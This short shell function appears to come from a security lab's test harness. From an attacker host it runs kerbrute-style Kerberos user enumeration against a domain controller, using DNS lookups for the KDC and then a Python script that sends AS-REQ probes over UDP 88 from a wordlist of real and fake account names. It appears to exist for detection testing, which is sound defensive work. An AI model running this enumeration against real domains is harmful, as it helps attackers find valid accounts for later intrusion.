# Kerbrute-style user enumeration over UDP 88 (py/kerbrute_udp.py) from the attacker KALI:
# one AS-REQ (PA-PAC-REQUEST, etypes aes256/aes128/rc4) per name, a new source port each.
# data/users-kerbrute.txt: 6 real accounts, 29 unknown names.
run() {
  # like the tools' own KDC discovery: locate the KDC through DNS first (this also names DC1)
  atk dig +short @"$DC_IP" "_kerberos._tcp.$DNSDOMAIN" SRV
  atk dig +short @"$DC_IP" "dc1.$DNSDOMAIN" A
  atk "$PY" "$LAB_ROOT/test/lab/py/kerbrute_udp.py" "$DC_IP" "$REALM" \
    "$LAB_ROOT/test/lab/data/users-kerbrute.txt" --delay 0.02
}
